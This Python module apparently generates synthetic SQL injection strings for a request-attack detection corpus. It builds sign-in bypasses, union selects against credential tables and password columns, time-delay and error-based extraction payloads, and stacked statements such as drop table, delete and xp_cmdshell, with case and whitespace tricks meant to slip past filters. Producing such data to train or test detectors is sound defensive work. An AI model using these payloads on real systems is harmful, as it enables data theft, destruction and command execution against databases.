"""How SQL is broken into: the pieces that techniques are made of, and the techniques that fetch or change data."""

from __future__ import annotations

import random

from weir_models.request_attack.corpus.placing import word

R = random.Random

FUNCTIONS = """
    version() user() database() @@version current_user @@hostname session_user() sqlite_version() schema()
    system_user
""".split()
TABLES = """
    users admin members accounts customers information_schema.tables information_schema.columns mysql.user
    sysobjects all_tables sqlite_master pg_catalog.pg_user orders wp_users dual
""".split()
COLUMNS = """
    password passwd username login email table_name column_name credit_card hash name id user_pass salt
""".split()


def _case(r: R, text: str) -> str:
    style = r.random()
    if style < 0.4:
        return text
    if style < 0.65:
        return text.upper()
    return "".join(c.upper() if r.random() < 0.5 else c for c in text)


def _space(r: R, text: str) -> str:
    """White space as it is or as filters are passed with."""
    style = r.random()
    if style < 0.7:
        return text
    filler = r.choice(("/**/", "+", "\t", "\n", "\r\n", "/*" + word(r) + "*/", "%0a", "\x0b", "  ", "--" + word(r) + "\n",
        "#" + word(r) + "\n"))  # fmt: skip
    return text.replace(" ", filler)


def finish(r: R, text: str) -> str:
    """As somebody would type it: in any case, with spaces or what stands for them."""
    return _space(r, _case(r, text))


def opening(r: R) -> str:
    """A value and what ends the literal that it stands in."""
    return r.choice(("", str(r.randint(0, 9999)), f"-{r.randint(1, 9999)}", word(r), "x")) + r.choice(
        ("'", "'", "'", '"', "", "')", "'))", '")', ")", "' ", "%'", "`", "\\'")
    )


def closing(r: R) -> str:
    """What makes the rest of the query harmless."""
    return r.choice(("--", "-- ", "#", "/*", "-- -", "--+", ";--", ";%00", "", "", " and '1'='1", " or 'a'='a", ' and ("a"="a',
        " and ('x' like 'x", "--" + word(r)))  # fmt: skip


def logic(r: R) -> str:
    """A word that joins a condition."""
    return r.choice(("or", "and", "or", "and", "||", "&&", "xor", "or not", "and not", "having", "where", "as x where"))


def number(r: R) -> int:
    """A number of no meaning."""
    return r.randint(1, 9999)


def truth(r: R) -> str:
    """A condition."""
    n = number(r)
    m = r.choice((n, n, n, number(r)))
    s = word(r)
    return r.choice((f"{n}={m}", f"{n} = {m}", f"'{s}'='{s}", f"'{s}' = '{s}'", f'"{s}"="{s}', f"({n})=({n})", f"{n} like {n}",
        f"'{s}' like '{s}", f"{n}<{n + 1}", f"{n}<>{n + 1}", f"{n} between {n - 1} and {n + 1}", f"'{s}' in ('{s}')", f"not {n}={n + 1}",
        f"{n}>{n - 1}", "true", "1", f"'{s}' is not null", f"{n} rlike {n}", f"0x{n:04x}=0x{n:04x}", f"char({n % 120})=char({n % 120})",
        f"~{n}", f"{n} regexp {n}", f"'{s}'<>'{s}x", "exists(select 1)", f"{r.choice(COLUMNS)} is null",
        f"{r.choice(COLUMNS)} like '%{s}%'", f"length({r.choice(COLUMNS)})>{n % 20}"))  # fmt: skip


def boolean(r: R) -> str:
    """A condition that is always true or always false."""
    return finish(r, f"{opening(r)} {logic(r)} {truth(r)}{closing(r)}")


def sign_in(r: R) -> str:
    """Past a sign-in form."""
    who = r.choice(("admin", "root", "administrator", "test", "sa", ""))
    return finish(r, r.choice((f"{who}'--", f"{who}' #", f"{who}'/*", f"{who}' or 1=1--", f"{who}' or '1'='1", f"{who}') or ('1'='1",
        f"{who}' or 1=1 limit 1;#", "' or ''='", "' or 1--", "' or true--", f'{who}" or ""="', "' || '1'='1", "'='", "' like '", "'-'",
        "' or 1=1/*", f"{who}' or 1 or '", "'=0--+", f"'+or+'{word(r)}'='{word(r)}", "') or true--", f"' or {truth(r)}{closing(r)}")))  # fmt: skip


def columns(r: R) -> str:
    """A list of columns."""
    pick = r.random()
    count = r.randint(1, 14)
    if pick < 0.3:
        items = ["null"] * count
    elif pick < 0.6:
        items = [str(i + 1) for i in range(count)]
    elif pick < 0.75:
        items = [str(number(r))] * count
    else:
        items = [r.choice((str(i), "null", r.choice(COLUMNS), r.choice(FUNCTIONS), f"concat({r.choice(COLUMNS)},0x3a,{r.choice(COLUMNS)})",
            f"group_concat({r.choice(COLUMNS)})", f"char({number(r) % 120})", f"'{word(r)}'", f"0x{number(r):08x}",
            f"{r.choice(COLUMNS)}||':'||{r.choice(COLUMNS)}")) for i in range(count)]  # fmt: skip
    return ",".join(items)


def select(r: R) -> str:
    """A query."""
    tail = r.choice(("", f" from {r.choice(TABLES)}", f" from {r.choice(TABLES)} where {r.choice(COLUMNS)}='{word(r)}'",
        f" from {r.choice(TABLES)} limit {r.randint(0, 9)},1", f" from {r.choice(TABLES)} where table_schema=database()",
        f" from {word(r)}.{r.choice(TABLES)}"))  # fmt: skip
    return f"select {r.choice(('', '', '', 'distinct ', 'top 1 '))}{columns(r)}{tail}"


def union(r: R) -> str:
    """Rows of another table joined to the answer."""
    rows = select(r)
    if r.random() < 0.15:
        rows = f"({rows})"
    return finish(r, f"{opening(r)} union {r.choice(('', 'all ', 'distinct '))}{rows}{closing(r)}").replace(
        "union  ", "union "
    )


def _delay(r: R) -> str:
    n = r.randint(1, 20)
    return r.choice((f"sleep({n})", f"pg_sleep({n})", f"benchmark({n}000000,md5({number(r)}))", f"waitfor delay '0:0:{n}'",
        f"dbms_pipe.receive_message('{word(r)}',{n})", f"(select {number(r)} from (select(sleep({n})))x)", f"if({truth(r)},sleep({n}),0)",
        f"(select case when ({truth(r)}) then pg_sleep({n}) else null end)", f"like('abcdefg',upper(hex(randomblob({n}00000000))))",
        f"(select count(*) from {r.choice(TABLES)} a,{r.choice(TABLES)} b,{r.choice(TABLES)} c)"))  # fmt: skip


def time(r: R) -> str:
    """An answer that comes late when the guess is right."""
    return finish(r, r.choice((f"{opening(r)} {logic(r)} {_delay(r)}{closing(r)}",
        f"{opening(r)};{r.choice(('select ', '', 'if(1=1) ', 'begin '))}{_delay(r)}{closing(r)}", _delay(r), f"{number(r)}-{_delay(r)}",
        f"{opening(r)}||{_delay(r)}||'", f"({_delay(r)})/*'+({_delay(r)})+'*/")))  # fmt: skip


def error(r: R) -> str:
    """Data inside the text of an error."""
    inner = r.choice(
        (
            f"(select {r.choice(FUNCTIONS)})",
            f"({select(r)})",
            r.choice(FUNCTIONS),
            f"(select (case when ({truth(r)}) then 1 else 0 end))",
        )
    )
    payload = r.choice((f"extractvalue({number(r)},concat(0x7e,{inner}))", f"updatexml(1,concat(0x3a,{inner}),1)",
        f"(select 1 from (select count(*),concat({inner},floor(rand(0)*2))x from information_schema.tables group by x)a)",
        f"cast({inner} as int)=1", f"convert(int,{inner})", f"1=(select upper(xmltype(chr(60)||{inner})) from dual)",
        f"ctxsys.drithsx.sn(1,{inner})=1", f"exp(~{inner})",
        f"row(1,2)>(select count(*),concat({inner},floor(rand(0)*2))x from (select 1 union select 2)a group by x limit 1)",
        f"cast({inner}::text as numeric)", f"utl_inaddr.get_host_address({inner})", f"json_keys({inner})", f"gtid_subset({inner},1)",
        f"procedure analyse(extractvalue(1,{inner}),1)"))  # fmt: skip
    return finish(r, f"{opening(r)} {logic(r)} {payload}{closing(r)}")


def stacked(r: R) -> str:
    """A second statement."""
    payload = r.choice((f"drop table {r.choice(TABLES)}", f"insert into {r.choice(TABLES)} values ({columns(r)})",
        f"update {r.choice(TABLES)} set {r.choice(COLUMNS)}='{word(r)}'", f"delete from {r.choice(TABLES)}",
        f"exec xp_cmdshell '{word(r)}'", f"exec master..xp_cmdshell 'ping {word(r)}'",
        f"declare @x varchar(99);set @x=0x{number(r):x};exec(@x)", "shutdown", select(r), f"create table {word(r)}(x int)",
        f"alter table {r.choice(TABLES)} add x int", f"truncate table {r.choice(TABLES)}", f"exec sp_executesql N'{word(r)}'",
        f"copy {word(r)} from program 'id'", "exec('sel'+'ect 1')"))  # fmt: skip
    return finish(r, f"{opening(r)};{r.choice(('', ' '))}{payload}{closing(r)}")
